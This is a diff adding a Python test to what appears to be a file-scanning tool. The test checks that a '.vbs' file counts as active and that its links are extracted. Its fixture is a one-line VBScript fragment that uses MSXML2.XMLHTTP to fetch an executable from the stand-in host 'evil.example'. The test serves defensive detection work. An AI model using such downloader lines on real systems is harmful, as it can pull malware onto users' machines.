@@ -104,3 +104,12 @@ def test_hostile_texts_are_bounded(data: bytes) -> None:
     read_bytes(b"<html>" + data, "a.html")
 
     assert time.perf_counter() - begin < 8
+
+
+def test_a_script_is_active() -> None:
+    """A text that Windows runs is active by its name; its words and links are read like those of a note."""
+    found = read_bytes(b'CreateObject("MSXML2.XMLHTTP").Open "GET", "https://evil.example/a.exe"\n', "bill.vbs")
+
+    assert found.is_active
+    assert [link.url for link in found.links] == ["https://evil.example/a.exe"]
+    assert not read_bytes(b"hello\n", "note.txt").is_active
